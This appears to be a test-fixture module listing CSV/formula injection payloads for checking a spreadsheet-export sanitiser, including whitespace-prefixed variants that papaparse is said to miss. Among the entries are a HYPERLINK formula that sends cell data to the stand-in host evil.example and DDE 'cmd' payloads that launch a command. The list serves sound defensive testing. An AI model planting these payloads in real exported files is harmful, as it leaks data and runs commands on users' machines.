// OWASP "CSV Injection": cells starting with these are read as formulas, plus the forms that hide
// the first character behind whitespace or a line break (papaparse's escapeFormulae misses those).
export const OWASP_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1\nsecond line',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '  =1+1',
  '\u3000=1+1',
  '\uFF1D1+1',
  '=1+1\r\n',
  '\t',
];
